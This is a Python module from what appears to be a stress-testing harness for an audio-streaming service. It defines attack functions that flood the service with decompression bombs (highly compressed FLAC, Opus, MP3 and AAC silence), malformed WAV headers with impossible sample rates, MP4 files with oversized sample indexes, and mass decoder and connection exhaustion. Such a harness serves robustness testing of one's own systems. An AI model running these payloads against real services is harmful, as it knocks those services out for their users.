"""Attacks by audio that is much more when it is decoded, and by many decoders."""

from __future__ import annotations

import asyncio
from functools import partial

from .. import containers as made
from ..attack import Answer, Target, attack
from ..line import Line
from ..wire import MIB, binary

_flac = partial(made.encode, "flac", "flac", 1790, rate=8000)
_opus = partial(
    made.encode, "ogg", "libopus", 1790, rate=48_000, bit_rate=6000, codec_options={"dtx": "1"}
)
_mp3 = partial(made.encode, "mp3", "libmp3lame", 900, rate=8000, bit_rate=8000)
_aac = partial(made.encode, "adts", "aac", 900, rate=8000, bit_rate=8000)


async def _side_by_side(target: Target, count: int, data: bytes, times: int = 1) -> None:
    message = binary(data[:MIB])

    async def one() -> None:
        async with Line(target) as line:
            if not await line.shake():
                return
            line.start_listening()
            for _ in range(times):
                await line.send(message)
            await line.listen(target.left)

    await target.side_by_side(one, target.count(count))


@attack(prepare=_flac, answer=Answer.SERVICE)
async def hours_in_a_message(target: Target) -> None:
    """Sends half an hour of silence as 1 MB of FLAC on 10 connections."""
    await _side_by_side(target, 10, target.prepared)


@attack(prepare=_flac, answer=Answer.SERVICE, fills_slots=True)
async def hours_in_a_message_on_50(target: Target) -> None:
    """Sends half an hour of silence as 1 MB of FLAC on 50 connections."""
    await _side_by_side(target, 50, target.prepared)


@attack(answer=Answer.SERVICE)
async def eight_bits_at_1_khz(target: Target) -> None:
    """Sends 17 minutes of audio as 1 MB of WAV with 8 bits at 1 kHz, on 10 connections."""
    await _side_by_side(target, 10, made.wav(b"\x80" * (MIB - 44), rate=1000, bits=8))


@attack(answer=Answer.SERVICE, fills_slots=True)
async def eight_bits_on_50(target: Target) -> None:
    """Sends the same file 4 times on 50 connections."""
    await _side_by_side(target, 50, made.wav(b"\x80" * (MIB - 44), rate=1000, bits=8), 4)


@attack()
async def wav_at_1_hz(target: Target) -> None:
    """Sends WAV files that claim 1 Hz, 0 Hz, and 4 GHz."""
    for rate in (1, 0, 0xFFFFFFFF):
        async with Line(target) as line:
            if await line.shake():
                line.start_listening()
                head = made.wav(bytes(100_000))
                data = head[:24] + (rate & 0xFFFFFFFF).to_bytes(4, "little") + head[28:]
                await line.send(binary(data))
                await line.listen(min(3.0, target.left))


@attack(prepare=_opus, answer=Answer.SERVICE)
async def opus_silence(target: Target) -> None:
    """Sends half an hour of Opus silence (DTX) on 10 connections."""
    await _side_by_side(target, 10, target.prepared)


@attack(prepare=_mp3, answer=Answer.SERVICE)
async def mp3_at_8_kbit(target: Target) -> None:
    """Sends a quarter of an hour of MP3 at the lowest bit rate on 10 connections."""
    await _side_by_side(target, 10, target.prepared)


@attack(prepare=_aac, answer=Answer.SERVICE)
async def aac_at_8_kbit(target: Target) -> None:
    """Sends a quarter of an hour of ADTS at the lowest bit rate on 10 connections."""
    await _side_by_side(target, 10, target.prepared)


@attack(answer=Answer.SERVICE)
async def raw_at_full_speed(target: Target) -> None:
    """Sends raw audio as fast as it is taken, 1 MB a message, on 10 connections."""

    async def one() -> None:
        async with Line(target) as line:
            if await line.shake():
                await line.flood(binary(bytes(MIB)))

    await target.side_by_side(one, 10)


@attack(answer=Answer.SERVICE)
async def mulaw_at_8_khz(target: Target) -> None:
    """Sends mu-law at 8 kHz, which is 4 times as much decoded, at full speed on 10 connections."""

    async def one() -> None:
        async with Line(target) as line:
            if await line.shake("encoding=mulaw&sample_rate=8000"):
                await line.flood(binary(bytes(MIB)))

    await target.side_by_side(one, 10)


@attack(answer=Answer.SERVICE)
async def mp4_index(target: Target) -> None:
    """Claims 2 million samples in MP4 files of 100 kB, an index of 48 MB, on 15 streams."""
    await _side_by_side(target, 15, made.mp4_with_samples(2_000_000))


@attack()
async def mp4_index_beyond_measure(target: Target) -> None:
    """Claims 100 million samples in an MP4 file of 100 kB, whose index takes 2.4 GB."""
    await _side_by_side(target, 2, made.mp4_with_samples(100_000_000))


def _short_flac() -> bytes:
    return made.encode("flac", "flac", 10.0, noise=500)


@attack(prepare=_short_flac, fills_slots=True)
async def many_decoders(target: Target) -> None:
    """Begins 300 compressed streams at once and keeps them open."""

    async def one() -> None:
        async with Line(target) as line:
            if await line.shake():
                line.start_listening()
                await line.send(binary(target.prepared[:20_000]))
                await line.listen(target.left)

    await target.side_by_side(one, target.count(300))


@attack(prepare=_short_flac, answer=Answer.SERVICE)
async def decoders_in_a_row(target: Target) -> None:
    """Begins a compressed stream and drops it, again and again, on 8 connections at a time."""

    async def one() -> None:
        while target.left:
            async with Line(target) as line:
                if await line.shake():
                    await line.send(binary(target.prepared[:20_000]))
                    await asyncio.sleep(0.05)  # so long its decoder lives, at least

    await target.side_by_side(one, 8)
